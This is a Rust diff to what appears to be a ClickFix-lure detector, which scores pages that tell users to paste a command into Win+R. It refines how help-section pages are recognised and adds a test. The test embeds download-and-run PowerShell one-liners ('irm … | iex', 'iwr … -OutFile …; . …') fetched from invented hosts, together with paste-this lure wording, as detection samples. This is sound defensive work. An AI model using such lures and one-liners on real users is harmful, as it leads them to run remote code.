@@ -1436,19 +1436,10 @@ impl PageHits {
         if !is_user_content(&host) {
             self.site = registrable(&host);
         }
-        // A help section: a word of the host before the site's own name, or of the path.
-        let rest = url.split_once("://").map_or(url, |x| x.1);
-        let at = rest.find(['/', '?', '#']).unwrap_or(rest.len());
-        let sub = rest.get(..at.saturating_sub(self.site.len())).unwrap_or("");
-        self.help = sub
-            .split('.')
-            .chain(rest[at..].split(|c: char| !c.is_ascii_alphanumeric()))
-            .any(|w| {
-                "support help hilfe aide ayuda ajuda aiuto assistenza supporto soporte suporte \
-                 ondersteuning kb faq docs helpdesk helpcenter"
-                    .split(' ')
-                    .any(|h| h.eq_ignore_ascii_case(w))
-            });
+        // A help section: a host or a path part starting with a help word (support.…, /help/…).
+        self.help = "/support /help /hilfe /aide /ayuda /ajuda /assist /soporte /suporte /kb /faq"
+            .split(' ')
+            .any(|w| has(url, w));
         self
     }
 
@@ -1624,15 +1615,18 @@ impl PageHits {
     /// (`DeskPlan shows 'Something went wrong'`, "« Impossible d'afficher » : que faire ?"): a
     /// help page's topic. The quote is still open at the failure (a name quoted and closed before
     /// it, 'The "Smile Booking" calendar did not load', claims it: review 34 CF34-M1); the `?`
-    /// ends the failure's own clause; a known-issue or troubleshooting heading lists it (600
-    /// bytes). (Review 34 CF34-M2, a kit's "Known issue:", left: neither the reader named nor a
-    /// version tells a KB from a kit, review 35 CX35-H1/H3.)
+    /// ends the failure's own clause; a help section's page names its product as what failed
+    /// (review 35 CX35-M3); a known-issue or troubleshooting heading lists it (600 bytes).
+    /// (Review 34 CF34-M2, a kit's "Known issue:", left: neither the reader named, a version,
+    /// nor a help address or the product named tells a KB from a kit, reviews 35 CX35-H1/H3
+    /// and 36 CX36-H1.)
     #[inline(never)]
     fn described(&self, h: &Hit) -> bool {
         // Byte-wise: char-array patterns cost a kilobyte of Wasm here.
         let b = self.base.as_bytes();
-        let (from, to) = self.clause(h);
-        let at = h.start.min(to);
+        let at = h.start.min(b.len());
+        let stop = |c: &u8| b".!?\n".contains(c);
+        let from = b[..at].iter().rposition(stop).map_or(0, |i| i + 1);
         // Quotes opened and closed from the clause's start: `"`, « », “ ” „ ‘ and 「 」 turn
         // it on or off (German „…“ and »…« as well as English “…”); `'` and ’ open a word, close
         // one, or are an apostrophe (didn't, l’été).
@@ -1656,50 +1650,20 @@ impl PageHits {
                 _ => {}
             }
         }
-        open || b.get(to) == Some(&b'?')
-            || self.help && self.product_kb()
-            || (self.help || self.names_product(from, to))
-                && self
-                    .of(Cat::Troubleshooting)
-                    .any(|t| t.end <= h.start && h.start - t.end <= HEADING_REACH)
-    }
-
-    /// The site's own name (its registrable label, four letters or more) starts a word of
-    /// `base[from..to]`: a vendor's help page names its product as the one that failed
-    /// ("After the 7.2 update "BrightLedger" did not load", „Kassenbuch“: Fehler beim Laden);
-    /// a kit names the page's widget ("the booking calendar").
-    fn names_product(&self, from: usize, to: usize) -> bool {
-        let name = self.site.split('.').next().unwrap_or("");
-        let b = self.base.as_bytes();
-        name.len() >= 4
-            && (from..to).any(|i| {
-                b[i..to].starts_with(name.as_bytes())
-                    && (i == 0 || !b[i - 1].is_ascii_alphanumeric())
-            })
-    }
-
-    /// A help section's page naming its product in a failure's clause: its failures are the
-    /// product's, the article's topic (its title's "The editor did not load" too).
-    fn product_kb(&self) -> bool {
-        self.of(Cat::PageFailure).any(|h| {
-            let (from, to) = self.clause(h);
-            self.names_product(from, to)
-        })
-    }
-
-    /// The failure's clause: from the last stop before it to the next stop or comma after it.
-    fn clause(&self, h: &Hit) -> (usize, usize) {
-        let b = self.base.as_bytes();
-        let at = h.start.min(b.len());
-        let from = b[..at]
-            .iter()
-            .rposition(|c| b".!?\n".contains(c))
-            .map_or(0, |i| i + 1);
+        // The failure's clause ends at the next stop or comma.
         let to = b
             .get(h.end..)
             .and_then(|r| r.iter().position(|c| b".!?,;\n".contains(c)))
             .map_or(b.len(), |i| h.end + i);
-        (from, to)
+        // A help section's page naming its product (the site's own name, four letters or more)
+        // in the failure's clause: "After the 7.2 update "BrightLedger" did not load", „Kassenbuch“:
+        // Fehler beim Laden (review 35 CX35-M3); a kit names the page's widget.
+        let name = self.site.split('.').next().unwrap_or("");
+        open || b.get(to) == Some(&b'?')
+            || self.help && name.len() >= 4 && has(self.base.get(from..to).unwrap_or(""), name)
+            || self
+                .of(Cat::Troubleshooting)
+                .any(|t| t.end <= h.start && h.start - t.end <= HEADING_REACH)
     }
 
     /// Install words in the page's own prose, not in a file or path name (a lure's `curl
@@ -2129,11 +2093,8 @@ fn assess_command(command: Command, page: &PageHits, typed: bool) -> Option<Clic
         && !command.fetches_from_owned(&page.site)
         // (`msiexec /i https://…` alone is how IT pages deploy an agent: review 35 CX35-H2.)
         && !command.shapes.iter().all(|s| *s == Shape::MsiexecUrl)
-        // (How it starts, and every address it fetches: a kit prints 32 bytes in tiny text.)
-        && !(page.shows_head(&command)
-            && tokens(&command.flat)
-                .iter()
-                .all(|t| !t.contains("://") || has(&page.flat, t)));
+        // (How it starts, and the sites it fetches from: a kit prints 32 bytes in tiny text.)
+        && !(page.shows_head(&command) && command.https_sites.iter().all(|s| has(&page.flat, s)));
     let docs = install_like && !kept_off && page.documents_install(&command);
     // An IT help or vendor support page tells a story too ("Teams audio not working? To fix
     // it, press Win+X …"), but shows the very command it copies and fetches nothing, or only
@@ -4842,6 +4803,54 @@ mod tests {
         ] {
             assert!(!kit(url, text, clip), "{text}");
         }
+    }
+
+    #[test]
+    fn clickfix36_a_help_sections_product_failed_and_addresses_kept_off() {
+        // Review 35 CX35-M3 (invented sites and scripts): a help section's page naming its
+        // product (the site's name) as what failed describes it; a kit names the widget of the
+        // page it broke into, and the same words elsewhere claim the failure as before.
+        let steps = "Press Windows + R, paste the line below and press Enter.";
+        let run = |url: &str, text: &str| {
+            let host = host_of(url);
+            let c = format!("powershell -c \"irm https://{host}/static/fix.ps1 | iex\"");
+            reasons(&snap_of(url, "", &format!("{text}\n{steps}\n{c}"), &c)).is_some()
+        };
+        for (help, other, text) in [
+            ("https://support.brightledger.example/kb/sync", "https://www.brightledger.example/app", "After the 7.2 update the \"BrightLedger\" sync window did not load for some users."),
+            ("https://hilfe.lohnfix.example/artikel/12", "https://www.lohnfix.example/start", "Nach dem Update auf 5.4 wurde LohnFix bei einigen Kunden nicht korrekt geladen."),
+            ("https://www.agendo.example/aide/chargement", "https://www.agendo.example/agenda", "Erreur lors du chargement de « Agendo » après la mise à jour 3.2."),
+            ("https://ayuda.facturo.example/kb/carga", "https://facturo.example/app", "Tras la actualización, «Facturo» no se pudo cargar en algunos equipos."),
+            ("https://www.caixaforte.example/suporte/erro", "https://www.caixaforte.example/conta", "Erro ao carregar o CaixaForte após a atualização 6.0."),
+            ("https://help.pinwheelcrm.example/articles/dashboard", "https://app.pinwheelcrm.example/", "'PinwheelCRM' failed to load for some accounts after the 8.0 update."),
+        ] {
+            assert!(!run(help, text), "{text}");
+            assert!(run(other, text), "{text}");
+        }
+        // A kit's widget on a help section, or the site's name outside one, claims it.
+        assert!(run(
+            "https://www.birchwood.test/help/book",
+            "The booking calendar did not load correctly. How to fix:"
+        ));
+        assert!(run(
+            "https://www.birchwood.test/book",
+            "The \"Birchwood\" calendar did not load correctly. How to fix:"
+        ));
+        // Kept off: printing how the command starts is not showing where it fetches from.
+        let kit = |text: &str, clip: &str| {
+            reasons(&snap_of("https://free-fonts-pack.site/", "", text, clip)).is_some()
+        };
+        let clip = r"powershell -c iwr https://release-assets.fontbox-mirror.test/setup.ps1 -OutFile $env:TEMP\f.ps1; . $env:TEMP\f.ps1";
+        let text = "Install the font pack. To finish installing, press Win + R, paste with Ctrl + V and press Enter.";
+        assert!(kit(
+            &format!("{text}\npowershell -c iwr https://release-"),
+            clip
+        ));
+        assert!(!kit(&format!("{text}\n{clip}"), clip));
+        // A tutorial whose copy adds a line still shows the command and its address.
+        let clip = "irm https://get.ferrylog.example/install.ps1 | iex # via devnotes.example";
+        let text = "How to install ferrylog on Windows: press Win + R, type powershell, then paste this command:\nirm https://get.ferrylog.example/install.ps1 | iex\nCopy";
+        assert!(!kit(text, clip));
     }
 
     #[test]
